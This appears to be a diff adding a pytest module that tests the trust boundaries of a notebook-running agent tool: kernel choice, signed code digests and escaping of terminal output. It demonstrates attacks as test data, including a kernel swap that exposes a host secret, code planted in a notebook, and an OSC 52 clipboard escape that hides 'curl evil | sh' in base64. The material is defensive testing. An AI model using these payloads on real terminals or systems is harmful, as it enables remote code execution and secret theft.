@@ -1,0 +1,150 @@
+"""Trust boundaries that need a real kernel: re-running a notebook is running untrusted code.
+
+The notebook's metadata never picks the kernel; keyed digests tell code nbagent ran from code
+added since; what a kernel answers reaches the terminal escaped. Each attack is shown working
+where the protection is absent, then stopped.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+import os
+import shutil
+from collections.abc import Iterator
+from pathlib import Path
+
+import nbformat
+import pytest
+from conftest import code, scripted
+
+from nbagent import Agent, export_tidy, verify_notebook
+from nbagent.cli import main
+from nbagent.execution.kernel import DEFAULT_KERNEL
+from nbagent.notebook.signing import key_path, load_key
+
+TOKEN_NAME = "NBAGENT_TRUST_TEST_TOKEN"
+STEP = (
+    "import os\nprint('token:', os.environ.get('NBAGENT_TRUST_TEST_TOKEN', 'absent'))\nfinal_answer('done')"
+)
+
+
+@pytest.fixture(scope="module")
+def data_dir(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
+    """This module's own Jupyter data folder, so its signing key is its own."""
+    folder = tmp_path_factory.mktemp("jupyter-data")
+    old = os.environ.get("JUPYTER_DATA_DIR")
+    os.environ["JUPYTER_DATA_DIR"] = str(folder)
+    yield folder
+    if old is None:
+        os.environ.pop("JUPYTER_DATA_DIR", None)
+    else:
+        os.environ["JUPYTER_DATA_DIR"] = old
+
+
+@pytest.fixture(scope="module")
+def signed_run(data_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("signed")
+    with Agent(scripted(code(STEP))) as agent:
+        result = agent.run("Is the token visible?", notebook=folder / "run.ipynb")
+    assert result.answer == "done"
+    return folder / "run.ipynb"
+
+
+def copy_of(notebook: Path, folder: Path) -> Path:
+    target = folder / notebook.name
+    shutil.copy2(notebook, target)
+    return target
+
+
+def step_cell(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
+    return next(c for c in nb.cells if c.cell_type == "code" and c.metadata["nbagent"].get("role") == "step")
+
+
+def printed(cell: nbformat.NotebookNode) -> str:
+    return "".join(o.get("text", "") for o in cell.outputs if o.get("output_type") == "stream")
+
+
+def test_verify_and_export_never_take_the_kernel_from_the_notebook(
+    signed_run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setenv(TOKEN_NAME, "tok-" + "s3cret" * 4)
+    notebook = copy_of(signed_run, tmp_path)
+    nb = nbformat.read(notebook, as_version=4)
+    assert key_path().parent.parent == Path(os.environ["JUPYTER_DATA_DIR"])
+    nb.metadata["nbagent"]["environment"]["kernel"] = "python3"  # unsandboxed: secrets, network
+    nbformat.write(nb, notebook)
+
+    # The attack: run in the kernel the notebook names, the code sees the host's secrets.
+    naive = verify_notebook(notebook, kernel="python3")
+    assert "tok-s3cret" in printed(step_cell(naive.executed))
+
+    report = verify_notebook(notebook)
+    assert report.kernel == DEFAULT_KERNEL
+    assert printed(step_cell(report.executed)).strip() == "token: absent"
+    assert report.ok, report.summary()
+
+    assert main(["verify", str(notebook)]) == 0
+    assert f"kernel {DEFAULT_KERNEL}" in capsys.readouterr().out
+
+    tidy = export_tidy(notebook, tmp_path / "tidy.ipynb")
+    assert tidy.verification is not None and tidy.verification.kernel == DEFAULT_KERNEL
+
+
+def test_verify_reports_code_changed_since_the_run(signed_run: Path, tmp_path: Path) -> None:
+    assert verify_notebook(signed_run).signature == "signed here"
+
+    notebook = copy_of(signed_run, tmp_path)
+    nb = nbformat.read(notebook, as_version=4)
+    # Code that prints nothing, slipped in after the run: outputs alone cannot see it.
+    step = step_cell(nb)
+    step.source = "open('planted.txt', 'w').write('x')\n" + step.source
+    added = nbformat.v4.new_code_cell("import os")
+    nb.cells.insert(nb.cells.index(step), added)
+    nbformat.write(nb, notebook)
+
+    unsigned = copy.deepcopy(nb)
+    for cell in unsigned.cells:
+        cell.metadata.get("nbagent", {}).pop("digest", None)
+    stripped = tmp_path / "stripped.ipynb"
+    nbformat.write(unsigned, stripped)
+    naive = verify_notebook(stripped)
+    assert naive.ok and naive.signature == "not signed here"  # the attack passes on outputs alone
+
+    report = verify_notebook(notebook)
+    assert not report.ok
+    changed = {c.index for c in report.cells if c.status == "code-changed"}
+    assert changed == {nb.cells.index(step), nb.cells.index(added)}
+    summary = report.summary()
+    assert (
+        "code changed" in summary
+        and "NOT REPRODUCED" in summary
+        and "REPRODUCED:" not in summary.replace("NOT REPRODUCED:", "")
+    )
+    assert report.to_dict()["counts"]["code-changed"] == 2
+
+
+def test_a_notebook_signed_with_another_key_is_not_signed_here(
+    signed_run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("JUPYTER_DATA_DIR", str(tmp_path / "other-machine"))
+    key = load_key()
+    assert key is not None and (key_path().stat().st_mode & 0o777) == 0o600
+    report = verify_notebook(signed_run)
+    assert report.signature == "not signed here (signed with another key)"
+    assert report.ok, report.summary()  # not a failure on its own
+
+
+def test_an_answer_with_terminal_escapes_is_printed_escaped(
+    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    clear, osc52 = "\\x1b[2J\\x1b[H", "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07"
+    script = tmp_path / "replies.json"
+    script.write_text(json.dumps([code(f"final_answer('42{clear}{osc52}')")]))
+    notebook = tmp_path / "out.ipynb"
+    assert main(["run", "q", "--model", f"scripted:{script}", "-o", str(notebook), "-q"]) == 0
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out
+    assert out.strip() == "42\\x1b[2J\\x1b[H\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07"
+    # The payload did reach the host: the notebook keeps the answer as the kernel gave it.
+    assert "\\u001b]52" in notebook.read_text()
